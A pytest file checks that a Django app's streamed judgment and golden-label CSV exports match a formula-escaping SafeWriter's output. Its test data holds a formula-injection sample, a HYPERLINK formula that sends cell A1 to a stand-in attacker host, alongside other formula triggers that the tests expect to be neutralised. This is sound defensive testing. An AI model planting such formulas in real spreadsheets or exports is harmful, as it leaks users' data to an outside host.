"""Campaign exports stream a few hundred responses at a time, in chunks, with the same bytes as row-by-row CSV.

The judgments' CSV lines are written cell by cell; they must equal what Python's csv module
writes through SafeWriter, for every awkward cell: formula triggers, commas, quotes, line breaks,
empty rationales, timestamps with and without microseconds.
"""

import csv
import datetime as dt
import io
import uuid

import pytest
from django.urls import reverse

from annotation.models import Assignment, Judgment
from heartbench_core.csvsafe import SafeWriter
from tests.factories import demo_responses, demo_version
from tests.validation.builders import as_file, judgment_lines
from validation import exports
from validation.selectors import golden_labels_for_export, judgments_for_export
from validation.services.imports import import_judgments

AWKWARD = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tleading tab",
    "\rleading return",
    "a, comma",
    'a "quoted" word',
    "two\nlines",
    "windows\r\nline",
    "",
    "   ",
    "中文理由，带逗号",
    "back\\slash",
    "'already quoted",
)


@pytest.fixture
def campaign(cast):
    demo_version()
    demo_responses()
    lines = judgment_lines([e.username for e in cast.experts])
    for i, line in enumerate(lines[:6]):
        line["reasons"] = [AWKWARD[(i + j) % len(AWKWARD)] for j in range(len(line["reasons"]))]
    campaign = import_judgments(source=as_file(lines), dataset_name="demo", campaign_name="blind-1").campaign
    # One assignment submitted on a whole second, one without a submission time: both cells as isoformat writes them.
    first, second = Assignment.objects.filter(campaign_response__campaign=campaign).order_by("pk")[:2]
    Assignment.objects.filter(pk=first.pk).update(submitted_at=dt.datetime(2026, 1, 2, 3, 4, 5, tzinfo=dt.UTC))
    Assignment.objects.filter(pk=second.pk).update(submitted_at=None)
    return campaign


def body(response) -> str:
    return b"".join(response.streaming_content).decode("utf-8")


def row_by_row(campaign) -> str:
    """The export as it was written before: one csv row at a time, all entries in one query."""
    buffer = io.StringIO()
    writer = SafeWriter(buffer)
    writer.writerow(exports.JUDGMENT_HEADER)
    for row in judgments_for_export(campaign):
        writer.writerow([v.isoformat() if hasattr(v, "isoformat") else (str(v) if isinstance(v, uuid.UUID) else v) for v in row])
    return buffer.getvalue()


def test_the_judgments_csv_is_the_csv_module_s_output(cast, client_for, campaign):
    response = client_for(cast.admin).get(reverse("validation:export", args=[campaign.pk, "judgments", "csv"]))
    assert response.status_code == 200 and response.streaming
    text = body(response)
    assert text == row_by_row(campaign)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == Judgment.objects.count()
    assert {"'" + a for a in AWKWARD if a and a[0] in "=+-@\t\r"} <= {r["rationale"] for r in rows}


def test_the_lines_written_here_are_the_csv_module_s(campaign):
    assert exports.judgment_csv(campaign) == exports.python_judgment_csv(campaign) == row_by_row(campaign)


def test_rows_come_in_batches_of_responses_and_chunks_of_lines(cast, client_for, campaign, monkeypatch):
    monkeypatch.setattr(exports, "ENTRIES_PER_BATCH", 2)
    monkeypatch.setattr(exports, "CHUNK_CHARS", 500)
    monkeypatch.setattr(exports, "LINES_PER_PIECE", 3)
    whole = row_by_row(campaign)
    for fmt in ("csv", "jsonl"):
        response = client_for(cast.admin).get(reverse("validation:export", args=[campaign.pk, "judgments", fmt]))
        pieces = [p.decode() for p in response.streaming_content]
        assert len(pieces) > 3
        assert all(len(p) < 500 + 1000 for p in pieces)
        if fmt == "csv":
            assert "".join(pieces) == whole


def test_the_golden_export_keeps_its_rows(cast, client_for, campaign, monkeypatch):
    from validation.services.golden import refresh_golden_labels

    refresh_golden_labels(campaign=campaign)
    expected = list(golden_labels_for_export(campaign))
    monkeypatch.setattr(exports, "ENTRIES_PER_BATCH", 2)
    response = client_for(cast.admin).get(reverse("validation:export", args=[campaign.pk, "golden", "csv"]))
    rows = list(csv.reader(io.StringIO(body(response))))
    assert len(rows) == len(expected) + 1 > 2 and rows[0] == list(exports.GOLDEN_HEADER)
